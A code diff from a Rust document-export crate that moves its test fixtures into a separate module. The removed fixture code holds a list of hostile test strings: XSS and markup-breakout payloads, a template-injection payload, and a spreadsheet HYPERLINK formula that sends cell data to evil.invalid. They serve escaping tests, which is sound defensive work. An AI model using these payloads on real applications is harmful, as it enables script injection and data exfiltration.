@@ -9,6 +9,9 @@ pub mod file_name;
 pub mod html;
 mod text;
 
+#[cfg(test)]
+pub(crate) mod fixtures;
+
 pub use archive::{ZipFile, zip};
 pub use docx::docx;
 pub use file_name::{FileNames, safe_file_name};
@@ -151,59 +154,4 @@ impl Table {
         let texts = row.iter().map(String::as_str).chain(std::iter::repeat(""));
         self.columns.iter().zip(texts)
     }
-}
-
-#[cfg(test)]
-pub(crate) mod fixtures {
-    //! One document with everything in it, for the tests of every format.
-
-    use super::*;
-
-    /// A document whose every text is `text`.
-    pub(crate) fn everything(text: &str) -> Document {
-        let t = || text.to_owned();
-        Document {
-            title: t(),
-            language: "en-US".to_owned(),
-            blocks: vec![
-                Block::heading(1, text),
-                Block::Paragraph(vec![Run::plain(text), Run::bold(text)]),
-                Block::list(ListStyle::Bullet, [text]),
-                Block::list(ListStyle::Checkbox, [text]),
-                Block::list(ListStyle::Numbered, [text]),
-                Block::list(ListStyle::Numbered, [text, text]),
-                Block::Table(Table {
-                    columns: vec![Column::text(text), Column::number(text)],
-                    rows: vec![vec![t(), t()], vec![t()], vec![t(), t(), t()]],
-                    total: Some(vec![t(), t()]),
-                }),
-                Block::KeyValues(vec![(t(), t())]),
-                Block::PageBreak,
-                Block::heading(9, text),
-            ],
-        }
-    }
-
-    /// Number of times [`everything`] prints its text (the title apart).
-    pub(crate) const TIMES: usize = 1 + 2 + 1 + 1 + 1 + 2 + 2 + 2 + 1 + 2 + 2 + 2 + 1;
-
-    /// Texts that try to be something else.
-    pub(crate) const HOSTILE: [&str; 16] = [
-        "<script>window.XSS=1</script>",
-        "\"><img src=x onerror=window.XSS=1>",
-        "'><img src=x onerror=window.XSS=1>",
-        "</title><script>window.XSS=1</script>",
-        "</style><script>window.XSS=1</script>",
-        "<!--",
-        "-->",
-        "<![CDATA[",
-        "]]><script>window.XSS=1</script>",
-        "&lt;script&gt;window.XSS=1&lt;/script&gt;",
-        "</w:t></w:r></w:p><w:p>",
-        "<?xml version=\"1.0\"?>",
-        "&#0; &bogus; &",
-        "=HYPERLINK(\"https://evil.invalid/?x=\"&A1,\"click\")",
-        "a\u{0}b\u{1}c\u{8}d\u{b}e\u{1f}f\u{7f}g\u{fffe}h\u{ffff}i",
-        "{{constructor.constructor(\"window.XSS=1\")()}}",
-    ];
 }
